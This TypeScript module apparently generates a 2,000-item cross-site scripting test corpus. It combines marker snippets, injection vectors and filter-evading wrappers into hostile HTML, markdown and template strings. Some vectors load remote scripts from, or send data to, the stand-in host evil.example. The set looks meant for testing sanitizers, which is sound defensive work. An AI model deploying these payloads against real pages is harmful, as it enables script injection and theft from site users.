/** Sets `ran` on the page that runs it, in ways that filters miss. */
const CODE = [
  'window.ran=true',
  'window["r"+"an"]=1',
  'alert(window.ran=1)',
  'fetch("https://evil.example/"+(window.ran=1))',
];

const WAYS: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<ScRiPt src="https://evil.example/x.js">${code}</sCrIpT >`,
  (code) => `<img src=x onerror='${code}'>`,
  (code) => `<img/src="https://evil.example/x.png"/onload='${code}'>`,
  (code) => `<svg onload='${code}'>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<math><mtext><style><img src onerror='${code}'></style></mtext></math>`,
  (code) => `<iframe srcdoc='<script>parent.${code}</script>'></iframe>`,
  (code) => `<iframe src='javascript:${code}'></iframe>`,
  (code) => `<object data='javascript:${code}'></object>`,
  (code) => `<embed src='data:text/html,<script>${code}</script>'>`,
  (code) => `<a href='javascript:${code}'>press</a>`,
  (code) => `<form action='javascript:${code}'><button>press</button></form>`,
  (code) => `<details open ontoggle='${code}'>x</details>`,
  (code) => `<input autofocus onfocus='${code}'>`,
  (code) => `<link rel=stylesheet href='https://evil.example/x.css?${code}'>`,
  (code) => `<base href='https://evil.example/${code}/'>`,
  (code) => `<meta http-equiv=refresh content='0;url=javascript:${code}'>`,
  (code) => `[press](javascript:${encodeURIComponent(code)})`,
  (code) => `[press](<java\tscript:${code}>)`,
  (code) => `[press](data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString('base64')})`,
  (code) => `![press](https://evil.example/${encodeURIComponent(code)}.png)`,
  (code) => `![" onerror='${code}'](x)`,
  (code) => `<javascript:${code}>`,
  (code) => `{{constructor.constructor('${code}')()}}\${${code}}`,
];

const FRAMES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</data></textarea></title>${text}`,
  (text) => `**${text}**`,
  (text) => `# ${text}`,
  (text) => `> - ${text}`,
  (text) => `| a |\n|---|\n| ${text} |`,
  (text) => `\`${text}\``,
  (text) => `[${text}](https://example.com/ "${text}")`,
  (text) => `[${text}][1]`,
  (text) => `Aurelia${text}Brightmetric`,
  (text) => `\u202e${text}\u200f`,
  (text) => `\\${text.replaceAll('<', '\\<')}`,
  (text) => `&quot;${text.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}`,
  (text) => `\u200b${text.replaceAll('<', '<\u200b')}`,
  (text) => text.toUpperCase(),
  (text) => `]]>${text}<![CDATA[`,
  (text) => `--${text}`,
  (text) => `\ud83d\ude00${text}\u0301\ufffd`,
];

/** 2,000 texts that run something where they are taken for more than text. */
export const HOSTILE_STRINGS: readonly string[] = FRAMES.flatMap((frame) =>
  WAYS.flatMap((way) => CODE.map((code) => frame(way(code)))),
);
